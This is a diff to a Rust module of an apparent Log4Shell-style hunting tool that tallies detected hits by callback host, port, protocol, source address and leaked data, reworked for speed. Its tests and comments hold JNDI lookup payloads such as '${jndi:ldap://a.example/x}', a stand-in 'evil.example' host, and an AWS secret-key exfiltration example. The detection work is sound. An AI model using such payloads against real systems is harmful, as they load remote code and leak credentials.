@@ -5,15 +5,16 @@
 use std::borrow::Cow;
 use std::collections::{BTreeMap, BTreeSet};
 use std::fmt::Write as _;
-use std::net::IpAddr;
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};
 
-use hashbrown::DefaultHashBuilder;
-use indexmap::IndexMap;
-use indexmap::map::raw_entry_v1::{RawEntryApiV1, RawEntryMut};
+use std::hash::BuildHasher as _;
+
+use hashbrown::hash_table;
+use hashbrown::{DefaultHashBuilder, HashMap, HashTable};
 use serde::Serialize;
 
 use super::input::HuntTotals;
-use super::{Hit, HitClass};
+use super::{Exfiltration, Hit, HitClass};
 
 /// Longest decoded payload shown in a table row, in characters.
 pub const TABLE_PAYLOAD_CHARS: usize = 80;
@@ -24,20 +25,31 @@ const KNOWN_PROTOCOLS: [&str; 10] = [
 ];
 
 /// How often one callback host was named, and how.
+///
+/// Kept small: in a hunt over an attack campaign nearly every hit names a new host, so the tally
+/// holds one of these per hit. What most hosts never have (a second port, an unusual protocol,
+/// exfiltration) lives in a box allocated only for the hosts that have it.
 #[derive(Debug, Clone, Default, PartialEq, Eq)]
 pub struct TargetTally {
     /// Hits naming the host.
     pub hits: u64,
-    /// Known protocols used with it, one bit per [`KNOWN_PROTOCOLS`] entry: nearly every host
-    /// is new in a hunt over an attack campaign, and a set of strings would cost two
-    /// allocations per host.
+    /// Known protocols used with it, one bit per [`KNOWN_PROTOCOLS`] entry.
     known_protocols: u16,
-    /// Other protocols used with it, lower-cased.
+    /// The port of the first hit that gave one.
+    first_port: Option<u16>,
+    /// Other protocols, every port once there are two, and exfiltration.
+    rare: Option<Box<RareTargetFacts>>,
+}
+
+/// The parts of a [`TargetTally`] that most hosts do not have.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+struct RareTargetFacts {
+    /// Protocols not in [`KNOWN_PROTOCOLS`], lower-cased.
     other_protocols: BTreeSet<String>,
-    /// Ports used with it.
-    pub ports: BTreeSet<u16>,
-    /// Victim data sent to it, e.g. `${env:AWS_SECRET_ACCESS_KEY}`.
-    pub exfiltration: BTreeSet<String>,
+    /// Every port used with the host, once it was named with two; empty before.
+    ports: BTreeSet<u16>,
+    /// Victim data sent to the host, e.g. `${env:AWS_SECRET_ACCESS_KEY}`.
+    exfiltration: BTreeSet<String>,
 }
 
 impl TargetTally {
@@ -48,20 +60,66 @@ impl TargetTally {
             .enumerate()
             .filter(|(bit, _)| self.known_protocols & (1 << bit) != 0)
             .map(|(_, name)| *name)
-            .chain(self.other_protocols.iter().map(String::as_str))
+            .chain(
+                self.rare
+                    .iter()
+                    .flat_map(|rare| rare.other_protocols.iter().map(String::as_str)),
+            )
             .collect();
         protocols.sort_unstable();
         protocols
+    }
+
+    /// Ports used with the host, in increasing order.
+    pub fn ports(&self) -> Vec<u16> {
+        match &self.rare {
+            Some(rare) if !rare.ports.is_empty() => rare.ports.iter().copied().collect(),
+            _ => self.first_port.into_iter().collect(),
+        }
+    }
+
+    /// Victim data sent to the host, e.g. `${env:AWS_SECRET_ACCESS_KEY}`, in text order.
+    pub fn exfiltration(&self) -> Vec<&str> {
+        self.rare.as_ref().map_or_else(Vec::new, |rare| {
+            rare.exfiltration.iter().map(String::as_str).collect()
+        })
+    }
+
+    fn rare(&mut self) -> &mut RareTargetFacts {
+        self.rare.get_or_insert_with(Box::default)
     }
 
     fn add_protocol(&mut self, name: &str) {
         match KNOWN_PROTOCOLS.iter().position(|known| *known == name) {
             Some(bit) => self.known_protocols |= 1 << bit,
             None => {
-                if !self.other_protocols.contains(name) {
-                    self.other_protocols.insert(name.to_string());
+                let other = &mut self.rare().other_protocols;
+                if !other.contains(name) {
+                    other.insert(name.to_string());
                 }
             }
+        }
+    }
+
+    fn add_port(&mut self, port: u16) {
+        match self.first_port {
+            None => self.first_port = Some(port),
+            Some(first) if first == port => {}
+            Some(first) => {
+                let ports = &mut self.rare().ports;
+                if ports.is_empty() {
+                    ports.insert(first);
+                }
+                ports.insert(port);
+            }
+        }
+    }
+
+    fn add_exfiltration(&mut self, leak: &Exfiltration) {
+        let leak = leak.to_string();
+        let known = &mut self.rare().exfiltration;
+        if !known.contains(&leak) {
+            known.insert(leak);
         }
     }
 }
@@ -77,20 +135,103 @@ pub struct FirstHit {
     pub decoded_payload: String,
 }
 
+/// Callback hosts with their tallies, in first-seen order. The host names are kept one after
+/// the other in one string rather than a string each (nearly every host of a campaign is new,
+/// and each cost an allocation), and the hash table holds only 32-bit positions, so it stays
+/// small enough for the cache while the entries are appended.
+#[derive(Debug, Clone, Default)]
+struct TargetTable {
+    /// Positions in `entries`, by the hash of the host.
+    index: HashTable<u32>,
+    /// One per host, in first-seen order.
+    entries: Vec<TargetEntry>,
+    /// The host names, each at its entry's `start..end`.
+    names: String,
+    hasher: DefaultHashBuilder,
+}
+
+#[derive(Debug, Clone)]
+struct TargetEntry {
+    /// Hash of the host name, kept for growing the table without hashing again.
+    hash: u64,
+    start: usize,
+    end: usize,
+    tally: TargetTally,
+}
+
+impl TargetTable {
+    fn name(&self, entry: &TargetEntry) -> &str {
+        &self.names[entry.start..entry.end]
+    }
+
+    /// The tally of `host`, added empty when it is new; one hash and one probe either way.
+    fn entry(&mut self, host: &str) -> &mut TargetTally {
+        let hash = self.hasher.hash_one(host);
+        let Self {
+            index,
+            entries,
+            names,
+            ..
+        } = self;
+        let position = match index.entry(
+            hash,
+            |&i| &names[entries[i as usize].start..entries[i as usize].end] == host,
+            |&i| entries[i as usize].hash,
+        ) {
+            hash_table::Entry::Occupied(found) => *found.get() as usize,
+            hash_table::Entry::Vacant(vacant) => {
+                let position = entries.len();
+                let position_u32 =
+                    u32::try_from(position).expect("fewer than 2^32 distinct callback hosts");
+                let start = names.len();
+                names.push_str(host);
+                entries.push(TargetEntry {
+                    hash,
+                    start,
+                    end: names.len(),
+                    tally: TargetTally::default(),
+                });
+                vacant.insert(position_u32);
+                position
+            }
+        };
+        &mut entries[position].tally
+    }
+
+    fn get(&self, host: &str) -> Option<&TargetTally> {
+        let hash = self.hasher.hash_one(host);
+        self.index
+            .find(hash, |&i| self.name(&self.entries[i as usize]) == host)
+            .map(|&i| &self.entries[i as usize].tally)
+    }
+
+    fn iter(&self) -> impl Iterator<Item = (&str, &TargetTally)> {
+        self.entries
+            .iter()
+            .map(|entry| (self.name(entry), &entry.tally))
+    }
+
+    fn len(&self) -> usize {
+        self.entries.len()
+    }
+}
+
 /// Hits counted by class, callback host and source address.
 ///
-/// Hosts and sources are counted in insertion-ordered hash maps and sorted only when asked for:
-/// in a campaign nearly every hit names a new callback host, and keeping them ordered while
-/// counting (a B-tree of strings) cost more than finding the hit. The maps' tables hold only
-/// positions, so they stay small enough for the cache while the entries are appended.
+/// Hosts and sources are counted in hash tables and sorted only when asked for: in a campaign
+/// nearly every hit names a new callback host, and keeping them ordered while counting (a
+/// B-tree of strings) cost more than finding the hit.
 #[derive(Debug, Clone, Default)]
 pub struct Tally {
     /// Hits per class, indexed like [`HitClass::ALL`].
     class_hits: [u64; HitClass::ALL.len()],
     /// Callback hosts, lower-cased, with lookups left in place.
-    targets: IndexMap<Box<str>, TargetTally, DefaultHashBuilder>,
-    /// Source addresses and their hit counts.
-    sources: IndexMap<IpAddr, u64, DefaultHashBuilder>,
+    targets: TargetTable,
+    /// IPv4 source addresses (as numbers, which hash faster than addresses) and their hit
+    /// counts; nearly every hit of a campaign comes from a new one.
+    sources_v4: HashMap<u32, u64>,
+    /// IPv6 source addresses and their hit counts.
+    sources_v6: HashMap<u128, u64>,
     /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
     examples: Vec<String>,
     /// The first hit recorded.
@@ -116,23 +257,22 @@ impl Tally {
             } else {
                 Cow::Borrowed(host)
             };
-            // One hash and probe per hit: nearly every host is new, and looking it up before
-            // inserting it searched the table twice.
-            let target = match self.targets.raw_entry_mut_v1().from_key(host.as_ref()) {
-                RawEntryMut::Occupied(entry) => entry.into_mut(),
-                RawEntryMut::Vacant(entry) => entry.insert(host.into(), TargetTally::default()).1,
-            };
+            let target = self.targets.entry(&host);
             target.hits += 1;
             if let Some(protocol) = &hit.protocol {
                 target.add_protocol(protocol.as_str());
             }
-            target.ports.extend(hit.target_port);
-            target
-                .exfiltration
-                .extend(hit.exfiltration.iter().map(ToString::to_string));
+            if let Some(port) = hit.target_port {
+                target.add_port(port);
+            }
+            for leak in &hit.exfiltration {
+                target.add_exfiltration(leak);
+            }
         }
-        if let Some(ip) = hit.source_ip {
-            *self.sources.entry(ip).or_default() += 1;
+        match hit.source_ip {
+            Some(IpAddr::V4(ip)) => *self.sources_v4.entry(ip.to_bits()).or_default() += 1,
+            Some(IpAddr::V6(ip)) => *self.sources_v6.entry(ip.to_bits()).or_default() += 1,
+            None => {}
         }
         if self.examples.len() < Self::MAX_EXAMPLES && !self.examples.contains(&hit.decoded_payload)
         {
@@ -168,11 +308,7 @@ impl Tally {
 
     /// Callback hosts (lower-cased, with lookups left in place) in name order.
     pub fn targets(&self) -> Vec<(&str, &TargetTally)> {
-        let mut targets: Vec<(&str, &TargetTally)> = self
-            .targets
-            .iter()
-            .map(|(host, target)| (host.as_ref(), target))
-            .collect();
+        let mut targets: Vec<(&str, &TargetTally)> = self.targets.iter().collect();
         targets.sort_unstable_by(|a, b| a.0.cmp(b.0));
         targets
     }
@@ -189,15 +325,23 @@ impl Tally {
 
     /// Source addresses and their hit counts, in address order.
     pub fn sources(&self) -> Vec<(IpAddr, u64)> {
-        let mut sources: Vec<(IpAddr, u64)> =
-            self.sources.iter().map(|(ip, n)| (*ip, *n)).collect();
+        let mut sources: Vec<(IpAddr, u64)> = self
+            .sources_v4
+            .iter()
+            .map(|(&ip, &n)| (IpAddr::V4(Ipv4Addr::from_bits(ip)), n))
+            .chain(
+                self.sources_v6
+                    .iter()
+                    .map(|(&ip, &n)| (IpAddr::V6(Ipv6Addr::from_bits(ip)), n)),
+            )
+            .collect();
         sources.sort_unstable();
         sources
     }
 
     /// Distinct source addresses.
     pub fn distinct_sources(&self) -> usize {
-        self.sources.len()
+        self.sources_v4.len() + self.sources_v6.len()
     }
 
     /// Distinct decoded payloads, the first [`Tally::MAX_EXAMPLES`] seen.
@@ -337,12 +481,13 @@ pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
     push_spaces(row, 12usize.saturating_sub(offset.len()));
     row.push_str(offset);
     row.push(' ');
+    // Class names and addresses are ASCII: their length is their width.
     let class_start = row.len();
     row.push_str(hit.class.as_str());
     if hit.suppressed {
         row.push_str("(supp)");
     }
-    pad_from(row, class_start, 17);
+    push_spaces(row, 17usize.saturating_sub(row.len() - class_start));
     row.push(' ');
     let protocol_start = row.len();
     row.push_str(hit.protocol.as_ref().map_or("-", |p| p.as_str()));
@@ -379,7 +524,7 @@ pub fn push_table_row(row: &mut String, input: &str, hit: &Hit) {
         }
         None => row.push('-'),
     }
-    pad_from(row, source_start, 15);
+    push_spaces(row, 15usize.saturating_sub(row.len() - source_start));
     row.push(' ');
     push_printable(row, &hit.decoded_payload, TABLE_PAYLOAD_CHARS);
 }
@@ -397,7 +542,14 @@ fn make_printable_from(row: &mut String, start: usize, max_chars: usize) {
 
 /// Pads what was appended to `row` since `start` with spaces to `width` characters, as `{:<width}`.
 fn pad_from(row: &mut String, start: usize, width: usize) {
-    let chars = row[start..].chars().count();
+    let field = &row[start..];
+    // Nearly every field is ASCII, where bytes are characters; counting characters goes
+    // through a general loop that cost more than the check.
+    let chars = if field.is_ascii() {
+        field.len()
+    } else {
+        field.chars().count()
+    };
     push_spaces(row, width.saturating_sub(chars));
 }
 
@@ -439,7 +591,11 @@ pub fn printable(text: &str, max_chars: usize) -> String {
 /// True when [`printable`] leaves `text` as it is: short, without control characters (0xC2
 /// starts the UTF-8 of U+0080..U+00BF, which holds the C1 controls).
 fn is_plain(text: &str, max_chars: usize) -> bool {
-    text.len() <= max_chars && text.bytes().all(|b| b >= 0x20 && b != 0x7f && b != 0xc2)
+    // Every byte is looked at (no early exit), which lets the compiler check many at once.
+    text.len() <= max_chars
+        && !text.bytes().fold(false, |seen, b| {
+            seen | (b < 0x20) | (b == 0x7f) | (b == 0xc2)
+        })
 }
 
 /// Appends [`printable`]'s text to `out`.
@@ -451,10 +607,19 @@ fn push_printable(out: &mut String, text: &str, max_chars: usize) {
     // The printable ASCII start (most of a long payload) is copied at once: one byte is one
     // character there.
     let limit = text.len().min(max_chars);
-    let run = text.as_bytes()[..limit]
+    let start = &text.as_bytes()[..limit];
+    // Checking every byte at once (vectorized) first: nearly always they all are printable.
+    let run = if start
         .iter()
-        .position(|b| !(0x20..0x7f).contains(b))
-        .unwrap_or(limit);
+        .fold(true, |all, b| all & (0x20..0x7f).contains(b))
+    {
+        limit
+    } else {
+        start
+            .iter()
+            .position(|b| !(0x20..0x7f).contains(b))
+            .unwrap_or(limit)
+    };
     out.push_str(&text[..run]);
     for (count, c) in text[run..].chars().enumerate().map(|(i, c)| (run + i, c)) {
         if count == max_chars {
@@ -491,7 +656,7 @@ mod tests {
         let target = tally.target("evil.example").unwrap();
         assert_eq!(target.hits, 2);
         assert_eq!(target.protocols(), ["ldap", "rmi"]);
-        assert_eq!(target.ports.iter().collect::<Vec<_>>(), [&1389]);
+        assert_eq!(target.ports(), [1389]);
         assert_eq!(tally.distinct_sources(), 1);
         assert_eq!(tally.first().unwrap().line_number, 1);
 
@@ -525,7 +690,7 @@ mod tests {
         let b = tally.target("b.example").unwrap();
         assert_eq!(b.hits, 3);
         assert_eq!(b.protocols(), ["custom", "ldap", "rmi"]);
-        assert_eq!(b.ports.iter().copied().collect::<Vec<_>>(), [7, 99]);
+        assert_eq!(b.ports(), [7, 99]);
         let sources: Vec<(String, u64)> = tally
             .sources()
             .iter()
@@ -543,6 +708,36 @@ mod tests {
             [("jndi", 5)]
         );
         assert_eq!(tally.class_hits(HitClass::RecursionDos), 0);
+    }
+
+    #[test]
+    fn many_hosts_are_counted_as_a_map_would() {
+        let mut tally = Tally::default();
+        let mut reference: BTreeMap<String, u64> = BTreeMap::new();
+        let mut hit = hit("${jndi:ldap://a.example/x}");
+        for i in 0..20_000u64 {
+            // Repeats, upper case and long names among them.
+            let host = match i % 7 {
+                0 => format!("H{}.Example", i % 500),
+                1 => format!("{}.{}.example", "x".repeat((i % 90) as usize), i),
+                _ => format!("h{}.example", (i * 7919) % 9000),
+            };
+            *reference.entry(host.to_lowercase()).or_default() += 1;
+            hit.target_host = Some(host);
+            tally.record("t.log", &hit);
+        }
+        let counted: Vec<(&str, u64)> = tally
+            .targets()
+            .iter()
+            .map(|(host, target)| (*host, target.hits))
+            .collect();
+        let expected: Vec<(&str, u64)> = reference.iter().map(|(h, n)| (h.as_str(), *n)).collect();
+        assert_eq!(counted, expected);
+        assert_eq!(tally.distinct_targets(), reference.len());
+        for (host, hits) in &reference {
+            assert_eq!(tally.target(host).map(|t| t.hits), Some(*hits), "{host}");
+        }
+        assert!(tally.target("absent.example").is_none());
     }
 
     /// The row as it was first written, with `format!` widths: the hand-padded row must match.
